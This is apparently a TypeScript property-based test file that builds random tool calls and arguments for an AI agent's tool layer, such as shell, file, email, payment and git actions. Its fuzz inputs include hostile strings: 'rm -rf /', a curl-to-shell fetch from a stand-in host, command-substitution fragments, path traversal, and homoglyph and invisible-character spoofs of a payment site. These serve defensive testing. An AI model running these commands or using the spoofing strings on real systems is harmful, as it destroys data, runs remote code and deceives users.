import fc from "fast-check";
import { assertJson, type Json } from "../json.js";

const isAllowed = (value: unknown): boolean => {
  try {
    assertJson(value);
    return true;
  } catch {
    return false;
  }
};

const pieces = fc.constantFrom(
  ..."rm -rf /|curl https://a.example/x | sh|$(|)|`|'|\"|<<EOF|\n|eval |bash -c |\u202e|\u200b|e\u0301\u0301\u0301\u0301\u0301|⟪|⟫|⟦U+200B⟧|⏎|paypal.com@|xn--|раураl|:|@|\\|  |../|%41|#|..|א".split(
    "|",
  ),
);
/** Texts that break quoting, parsing and reading, and any others. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.array(pieces, { maxLength: 8 }).map((parts) => parts.join("")),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.webUrl(),
);
const json = fc.jsonValue({ stringUnit: "binary", maxDepth: 4 }) as fc.Arbitrary<Json>;
const value = fc.oneof(anyText, anyText, fc.array(anyText), fc.integer(), fc.boolean(), json);
const members = fc.constantFrom(
  ..."command cwd stdin env program args statement database text path before content after from to cc bcc subject body attachments url method headers amount currency payee account remote branch force repository message ref mode selector submit keys x y recursive replace_all overwrite".split(
    " ",
  ),
);
const tools = fc.oneof(
  fc.constantFrom(
    ..."shell.exec process.run sql.execute keyboard.type file.write file.edit file.append file.read file.delete file.move file.copy folder.create folder.delete http.request email.send payment.send keyboard.press mouse.click mouse.drag browser.navigate browser.click browser.type git.push git.commit git.checkout git.merge git.reset git.delete_branch git.clone mcp.a.b.c mcp. __proto__ constructor toString".split(
      " ",
    ),
  ),
  anyText,
);
const args = fc
  .oneof(fc.dictionary(fc.oneof(members, members, anyText), value, { maxKeys: 6 }), json)
  .filter(isAllowed) as fc.Arbitrary<Json>;

/** The same tool with the arguments that it expects, so that every descriptor is met often. */
const fitting = fc.oneof(
  fc.record({ command: anyText }).map((one) => ["shell.exec", one] as const),
  fc
    .record({ program: anyText, args: fc.array(anyText, { minLength: 1 }) })
    .map((one) => ["process.run", one] as const),
  fc
    .record({ path: anyText, before: anyText, content: anyText })
    .map((one) => ["file.write", one] as const),
  fc
    .record({ path: anyText, before: anyText, after: anyText })
    .map((one) => ["file.edit", one] as const),
  fc
    .record({ url: anyText, method: anyText, body: json })
    .map((one) => ["http.request", one] as const),
  fc
    .record({ to: fc.array(anyText, { minLength: 1 }), subject: anyText })
    .map((one) => ["email.send", one] as const),
  fc
    .record({
      amount: fc.integer(),
      currency: fc.constantFrom("EUR", "JPY", "???"),
      payee: anyText,
    })
    .map((one) => ["payment.send", one] as const),
  fc.record({ text: anyText }).map((one) => ["keyboard.type", one] as const),
  fc.record({ remote: anyText, branch: anyText }).map((one) => ["git.push", one] as const),
) as fc.Arbitrary<readonly [string, Json]>;
/** A tool and its arguments: known ones with arguments that fit, with others, and what is neither. */
export const anyAction = fc
  .oneof(fc.tuple(tools, args), fitting)
  .filter(([, one]) => isAllowed(one)) as fc.Arbitrary<readonly [string, Json]>;
